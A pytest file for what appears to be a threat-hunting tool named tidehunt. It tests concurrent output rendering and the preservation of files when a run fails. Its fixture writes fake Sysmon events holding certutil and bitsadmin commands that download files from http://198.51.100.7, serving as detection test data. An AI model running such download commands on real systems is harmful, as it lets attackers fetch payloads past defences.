"""The bulk renderers (JSONL, the CSV timeline) start once the findings are sorted, beside
correlation (``engine.Outputs``); every output file is put in place only when all of them
were written, so a run that fails part-way leaves the previous run's files."""

from __future__ import annotations

import threading
from datetime import UTC, datetime, timedelta

import orjson
import pytest

from tidehunt import correlate as corr
from tidehunt.context import RunContext
from tidehunt.engine import HuntOptions, hunt
from tidehunt.render import csv_timeline, html, jsonl

NOW = datetime.now(UTC)


def _evidence(tmp_path):
    ev = tmp_path / "ev"
    ev.mkdir()
    lines = []
    for rid, (image, cmd) in enumerate([
            (r"C:\Windows\System32\certutil.exe",
             "certutil -urlcache -split -f http://198.51.100.7/a a"),
            (r"C:\Windows\System32\bitsadmin.exe",
             "bitsadmin /transfer j http://198.51.100.7/b c:\\b")], start=1):
        ts = (NOW - timedelta(days=3, seconds=rid)).isoformat().replace("+00:00", "Z")
        lines.append(orjson.dumps({"Event": {"System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
            "TimeCreated": {"#attributes": {"SystemTime": ts}}, "EventRecordID": rid,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS9"},
            "EventData": {"Image": image, "CommandLine": cmd}}}))
    (ev / "sysmon.json").write_bytes(b"\n".join(lines) + b"\n")
    return ev


def test_bulk_renderers_run_beside_correlation(tmp_path, monkeypatch):
    rendering = threading.Event()
    real_render = jsonl.render

    def spy_render(report, findings, out):
        assert report is None  # started before the report is finished: given none
        rendering.set()
        real_render(report, findings, out)

    real_correlate = corr.correlate
    seen: list[bool] = []

    def spy_correlate(*args, **kwargs):
        seen.append(rendering.wait(timeout=30))  # the JSONL thread is already at work
        return real_correlate(*args, **kwargs)

    monkeypatch.setattr(jsonl, "render", spy_render)
    monkeypatch.setattr(corr, "correlate", spy_correlate)
    case = tmp_path / "case"
    report = hunt([str(_evidence(tmp_path))], case, RunContext(), HuntOptions(workers=1))
    assert seen == [True]
    lines = (case / "findings.jsonl").read_bytes().splitlines()
    assert len(lines) == report.findings_count > 0
    assert (case / "timeline.csv").read_bytes().count(b"\n") == len(lines) + 1
    assert not list(case.glob(".tmp-*"))


def test_html_renders_while_the_last_bulk_renderer_runs(tmp_path, monkeypatch):
    """The report-reading renderers start once at most one bulk renderer still runs."""
    html_started = threading.Event()
    real_jsonl, real_html = jsonl.render, html.render
    overlapped: list[bool] = []

    def slow_jsonl(report, findings, out):
        overlapped.append(html_started.wait(timeout=10))  # CSV is done; HTML goes
        real_jsonl(report, findings, out)

    def spy_html(report, findings, out):
        html_started.set()
        real_html(report, findings, out)

    monkeypatch.setattr(jsonl, "render", slow_jsonl)
    monkeypatch.setattr(html, "render", spy_html)
    case = tmp_path / "case"
    report = hunt([str(_evidence(tmp_path))], case, RunContext(), HuntOptions(workers=1))
    assert overlapped == [True]
    assert len((case / "findings.jsonl").read_bytes().splitlines()) == report.findings_count
    assert b"certutil" in (case / "report.html").read_bytes()
    assert not list(case.glob(".tmp-*"))


@pytest.mark.parametrize("broken", ["csv", "html", "correlate", "jsonl"])
def test_a_failed_output_leaves_the_last_runs_files(tmp_path, monkeypatch, broken):
    ev = _evidence(tmp_path)
    case = tmp_path / "case"
    hunt([str(ev)], case, RunContext(), HuntOptions(workers=1))
    names = ["findings.jsonl", "timeline.csv", "report.html"]
    before = {n: (case / n).read_bytes() for n in names}

    def boom(*args, **kwargs):
        raise RuntimeError("renderer failed")

    target = {"csv": (csv_timeline, "render"), "html": (html, "render"),
              "correlate": (corr, "correlate"), "jsonl": (jsonl, "render")}[broken]
    monkeypatch.setattr(*target, boom)
    # the evidence changed: a run that got through would write other files
    (ev / "more.json").write_bytes((ev / "sysmon.json").read_bytes().replace(b"WS9", b"WS8"))
    with pytest.raises(RuntimeError, match="renderer failed"):
        hunt([str(ev)], case, RunContext(), HuntOptions(workers=1))
    assert {n: (case / n).read_bytes() for n in names} == before
    assert not list(case.glob(".tmp-*"))
